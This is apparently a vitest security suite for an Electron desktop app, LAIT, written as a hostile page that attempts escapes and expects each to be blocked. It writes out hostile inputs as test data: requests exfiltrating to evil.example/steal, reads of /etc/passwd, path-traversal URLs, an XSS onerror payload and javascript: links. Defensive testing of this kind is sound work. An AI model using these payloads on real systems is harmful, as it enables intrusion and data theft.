import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SHELL_CHANNELS } from '#shared/api/shell-channels.ts';
import { launchDesktop, type RunningDesktop } from '../launch-desktop.ts';
import { securityReport } from './security-report.ts';

/** What a page can reach, as a page would try it. */
interface HostileWindow {
  readonly lait: {
    readonly shell: Readonly<Record<string, (input: unknown) => Promise<{ ok: boolean; error?: { kind: string } }>>>;
    connectWorkspace(): Promise<unknown>;
  };
}

const report = securityReport();

/**
 * The page is taken for hostile: everything below is tried from inside it. Each point fails when its setting is taken
 * away, and is reported as enforced or only configured.
 */
describe('a hostile page on the desktop', () => {
  let app: RunningDesktop;
  beforeAll(async () => {
    app = await launchDesktop();
    await app.page.getByRole('heading', { name: 'No invoices yet' }).waitFor();
  });
  afterAll(async () => {
    await app.end();
    report.print();
  });

  const urls = () =>
    app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().map((each) => each.webContents.getURL()), null);
  const pause = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));

  it('runs in a sandbox, apart from the preload, without Node and without web views', async () => {
    const preferences = await app.evaluate(
      ({ BrowserWindow }) =>
        // Electron has it, its types do not say so.
        BrowserWindow.getAllWindows().map(({ webContents }) =>
          (webContents as unknown as { getLastWebPreferences(): object }).getLastWebPreferences(),
        ),
      null,
    );
    expect(preferences).toHaveLength(1);
    expect(preferences[0]).toMatchObject({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      webviewTag: false,
      webSecurity: true,
    });
    report.proven('sandbox, contextIsolation, no nodeIntegration, no webviewTag, webSecurity', 'electron');
  });

  it('is shut in as a whole before Electron is ready, on two schemes that may do no more than they need', async () => {
    const found = await app.evaluate(({ app: application, protocol }) => {
      // The real Electron tells of the sandbox by its switch, and of schemes nothing; the stand-in remembers both.
      const shut = application as unknown as { isSandboxed?: boolean };
      const { registered } = protocol as unknown as { registered?: object[] };
      return {
        isSandboxed: shut.isSandboxed ?? application.commandLine.hasSwitch('enable-sandbox'),
        schemes: registered ?? null,
      };
    }, null);
    expect(found.isSandboxed).toBe(true);
    if (app.driver === 'standin') {
      expect(found.schemes).toEqual([
        { scheme: 'lait', privileges: { standard: true, secure: true, supportFetchAPI: true, codeCache: true } },
        { scheme: 'lait-doc', privileges: { standard: true, secure: true } },
      ]);
    }
    expect(await app.page.evaluate(() => isSecureContext)).toBe(true);
    report.proven('sandbox of every process, schemes without a right too many', 'electron');
  });

  it('sees one frozen bridge of functions, and neither require, process nor ipcRenderer', async () => {
    const seen = await app.page.evaluate(() => {
      const scope = globalThis as unknown as Record<string, unknown> & {
        lait: Record<string, Record<string, unknown>>;
      };
      const before = scope.lait;
      try {
        (scope as { lait: unknown }).lait = { shell: {} };
      } catch {
        // Strict code throws, sloppy code is ignored; either way it must not have changed.
      }
      return {
        node: ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron'].filter((name) => name in scope),
        keys: Object.keys(scope.lait).toSorted(),
        shell: Object.keys(scope.lait.shell ?? {}).toSorted(),
        isSame: scope.lait === before,
        isFrozen: Object.isFrozen(scope.lait),
      };
    });
    expect(seen).toEqual({
      node: [],
      keys: ['connectWorkspace', 'dropFiles', 'shell', 'subscribe'],
      shell: [...SHELL_CHANNELS].toSorted(),
      isSame: true,
      isFrozen: true,
    });
    report.proven('one frozen bridge with a closed list of functions', 'electron');
  });

  it('is held by exactly the policy that the design names', async () => {
    const policy = await app.page.evaluate(async () => (await fetch('/')).headers.get('content-security-policy'));
    const frames = app.driver === 'standin' ? 'http://*.lait-doc.localhost' : 'lait-doc:';
    expect(policy).toBe(
      "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' blob:; font-src 'self'; " +
        `connect-src 'self'; worker-src 'self'; frame-src ${frames}; base-uri 'none'; form-action 'none'; ` +
        "require-trusted-types-for 'script'",
    );
    report.proven('content security policy, to the letter', 'chromium');
  });

  it('runs no script and no style of its own making', async () => {
    const outcome = await app.page.evaluate(async () => {
      const blocked: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
      const tries = {
        html: () => {
          document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
        },
        script: () => {
          const script = document.createElement('script');
          script.text = 'globalThis.isOwned = true';
          document.head.append(script);
        },
      };
      const threw: string[] = [];
      for (const [name, work] of Object.entries(tries)) {
        try {
          work();
        } catch {
          threw.push(name);
        }
      }
      // Not at once: what DevTools itself runs may compile text.
      await new Promise<void>((resolve) => {
        setTimeout(() => {
          try {
            new Function('return 1')();
          } catch {
            threw.push('eval');
          }
          resolve();
        });
      });
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.head.append(style);
      await new Promise((resolve) => setTimeout(resolve, 100));
      return {
        threw,
        isOwned: 'isOwned' in globalThis,
        isHidden: getComputedStyle(document.body).display === 'none',
        blocked: [...new Set(blocked)].toSorted(),
      };
    });
    expect(outcome).toMatchObject({ threw: ['html', 'script', 'eval'], isOwned: false, isHidden: false });
    expect(outcome.blocked).toEqual(expect.arrayContaining(['require-trusted-types-for', 'style-src-elem']));
    report.proven('no inline script, no eval, no inline style, Trusted Types', 'chromium');
  });

  it('reaches no network, not even this computer', async () => {
    const reached = await app.page.evaluate(async () => {
      const answers = await Promise.allSettled([
        fetch('https://evil.example/steal'),
        fetch('http://127.0.0.1:1/'),
        new Promise((resolve, reject) => {
          const image = new Image();
          image.onload = resolve;
          image.onerror = reject;
          image.src = 'https://evil.example/steal.png';
        }),
        new Promise((resolve, reject) => {
          const socket = new WebSocket('wss://evil.example/');
          socket.onopen = resolve;
          socket.onerror = reject;
        }),
      ]);
      navigator.sendBeacon('https://evil.example/beacon', 'x');
      return answers.map(({ status }) => status);
    });
    expect(reached).toEqual(['rejected', 'rejected', 'rejected', 'rejected']);
    await pause(200);
    expect(await app.foreignRequests()).toEqual([]);
    report.proven('no network from the page', 'chromium');
    // And were the policy ever to fail, the session refuses all the same.
    const isRefused = await app.evaluate(async ({ session }) => {
      const pages = session.fromPartition('persist:lait') as unknown as { isCancelled?(url: string): boolean };
      return pages.isCancelled?.('https://evil.example/') ?? 'not to be asked';
    }, null);
    if (app.driver === 'standin') expect(isRefused).toBe(true);
    report.proven('no request to any network in the session of pages', 'electron');
  });

  it.each([
    ['an address', (): void => location.assign('https://evil.example/')],
    ['a file', (): void => location.assign('file:///etc/passwd')],
    [
      'a link',
      () => {
        const link = document.createElement('a');
        link.href = 'https://evil.example/';
        document.body.append(link);
        link.click();
        link.remove();
      },
    ],
    ['another host of our scheme', (): void => location.assign(location.href.replace('//app', '//evil'))],
    ['a window of its own', (): void => void window.open('https://evil.example/', '_blank')],
    ['a window that can speak back', (): void => void window.open(location.href, 'second')],
    [
      'a link to a new window',
      () => {
        const link = document.createElement('a');
        link.href = 'https://evil.example/';
        link.target = '_blank';
        document.body.append(link);
        link.click();
        link.remove();
      },
    ],
    [
      'a form',
      () => {
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        form.method = 'post';
        document.body.append(form);
        form.submit();
        form.remove();
      },
    ],
    [
      'a frame',
      () => {
        const frame = document.createElement('iframe');
        frame.src = 'https://evil.example/';
        document.body.append(frame);
        setTimeout(() => frame.remove(), 200);
      },
    ],
  ] as const)('goes nowhere by %s', async (_how, leave) => {
    await app.page.evaluate(leave);
    await pause(350);
    expect(await urls()).toEqual(['lait://app/']);
    expect(app.page.context().pages()).toHaveLength(1);
    expect(await app.foreignRequests()).toEqual([]);
  });

  it('and was kept from leaving by our own decision', () => {
    report.proven('navigation, redirects, new windows and frames', 'electron');
  });

  it('opens nothing outside without a question, and never anything but https', async () => {
    await app.evaluate(({ dialog, shell }) => {
      const scope = globalThis as unknown as { opened: string[]; asked: string[]; answer: number };
      Object.assign(scope, { opened: [], asked: [], answer: 0 });
      shell.openExternal = async (url) => void scope.opened.push(url);
      dialog.showMessageBox = (async (...args: unknown[]) => {
        scope.asked.push((args.at(-1) as { message: string }).message);
        return { response: scope.answer, checkboxChecked: false };
      }) as never;
    }, null);
    const open = (url: string) =>
      app.page.evaluate((asked) => (globalThis as unknown as HostileWindow).lait.shell.openLink?.({ url: asked }), url);
    for (const url of ['file:///etc/passwd', 'http://firm.example/', 'smb://host/x', 'javascript:alert(1)']) {
      expect(await open(url)).toMatchObject({ ok: false, error: { kind: 'refused' } });
    }
    expect(await open('https://elsewhere.example/x')).toEqual({ ok: true, value: 'declined' });
    await app.evaluate(() => void Object.assign(globalThis, { answer: 1 }), null);
    expect(await open('https://elsewhere.example/x')).toEqual({ ok: true, value: 'opened' });
    const seen = await app.evaluate(() => {
      const { opened, asked } = globalThis as unknown as { opened: string[]; asked: string[] };
      return { opened, asked: asked.length };
    }, null);
    expect(seen).toEqual({ opened: ['https://elsewhere.example/x'], asked: 2 });
    report.proven('links outside: https only, with a question', 'electron');
  });

  it('is given no permission but to notify and to write to the clipboard', async () => {
    const states = await app.page.evaluate(async () => {
      const names = ['geolocation', 'notifications', 'midi', 'persistent-storage'] as const;
      const found = await Promise.all(
        names.map((name) => navigator.permissions.query({ name: name as PermissionName })),
      );
      return Object.fromEntries(found.map(({ state }, index) => [names[index], state]));
    });
    expect(states).toMatchObject({ geolocation: 'denied', midi: 'denied', notifications: 'granted' });
    report.proven('permissions and devices', 'electron');
  });

  it('gets no answer to junk on any channel, and LAIT goes on', async () => {
    const junk = [undefined, null, 0, 'x', [], { extra: 1 }, { step: 'quit' }, { path: '/api/auth/login' }];
    const kinds = await app.page.evaluate(async (inputs) => {
      const { shell } = (globalThis as unknown as HostileWindow).lait;
      const found: string[] = [];
      for (const ask of Object.values(shell)) {
        for (const input of inputs) {
          const reply = await ask(input);
          found.push(reply.ok ? 'answered' : (reply.error?.kind ?? ''));
        }
      }
      return found;
    }, junk);
    expect([...new Set(kinds)].toSorted()).toEqual(['invalid', 'refused']);
    expect(kinds).toHaveLength(SHELL_CHANNELS.length * junk.length);
    report.proven('every channel checks its input', 'electron');
  });

  it('cannot name a path, nor a file that was not dropped', async () => {
    const replies = await app.page.evaluate(async () => {
      const { lait } = globalThis as unknown as HostileWindow;
      const line = new Promise<MessagePort>((resolve) => {
        addEventListener('message', ({ ports: [port] }) => port !== undefined && resolve(port), { once: true });
      });
      await lait.connectWorkspace();
      const port = await line;
      const heard: { callId?: number; type: string; reply?: { ok: boolean; error?: { kind: string } } }[] = [];
      port.onmessage = ({ data }) => heard.push(data);
      port.postMessage({ type: 'dropped', requestId: 1, paths: ['/etc/passwd'] });
      port.postMessage({ type: 'open', folder: '/etc', keyHex: '' });
      port.postMessage({ type: 'close' });
      const asked = { type: 'importArrived', importId: crypto.randomUUID(), index: 0 };
      port.postMessage({ ...asked, callId: 9001, token: '/etc/passwd' });
      port.postMessage({ ...asked, callId: 9002, token: crypto.randomUUID() });
      port.postMessage({ type: 'call', call: { callId: 9003, kind: 'query', name: 'getStatus', input: {} } });
      await new Promise((resolve) => setTimeout(resolve, 500));
      return heard
        .filter(({ type, callId }) => type === 'reply' && (callId ?? 0) > 9000)
        .map(({ callId, reply }) => [callId, reply?.error?.kind ?? 'ok']);
    });
    expect(replies).toEqual([
      [9001, 'not_found'],
      [9002, 'not_found'],
      [9003, 'ok'],
    ]);
    report.proven('no path from a page', 'electron');
  });

  it('reads no file through the scheme, and writes none', async () => {
    const statuses = await app.page.evaluate(async () => {
      const tries = [
        '/..%2f..%2fpackage.json',
        '/%2e%2e/main/index.js',
        '/..%5cmain%5cindex.js',
        '/assets/../../main/index.js',
      ];
      const reads = await Promise.all(tries.map(async (path) => (await fetch(path)).status));
      const write = await fetch('/index.html', { method: 'POST', body: 'x' });
      return [...reads, write.status];
    });
    expect(statuses.every((status) => status >= 400)).toBe(true);
    expect(statuses.at(-1)).toBe(405);
    report.proven('lait:// serves the page alone, GET alone', 'chromium');
  });

  it('saves what it made where the person says, and nothing from elsewhere', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'lait-saved-'));
    await app.evaluate(({ session }, target) => {
      session.fromPartition('persist:lait').on('will-download', (_event, item) => {
        item.setSavePath(`${target}/${item.getURL().startsWith('blob:') ? 'made' : 'foreign'}.txt`);
      });
    }, folder);
    const save = (isForeign: boolean) =>
      app.page.evaluate((isFromElsewhere) => {
        const link = document.createElement('a');
        link.href = isFromElsewhere ? 'data:text/plain,evil' : URL.createObjectURL(new Blob(['the corrected bill']));
        link.download = '../../bill.txt';
        document.body.append(link);
        link.click();
        link.remove();
      }, isForeign);
    await save(true);
    await pause(500);
    await save(false);
    await expect.poll(() => readdirSync(folder), { timeout: 10_000 }).toEqual(['made.txt']);
    expect(readFileSync(join(folder, 'made.txt'), 'utf8')).toBe('the corrected bill');
    rmSync(folder, { recursive: true });
    report.proven('downloads: only what the page has made', 'electron');
  });
});
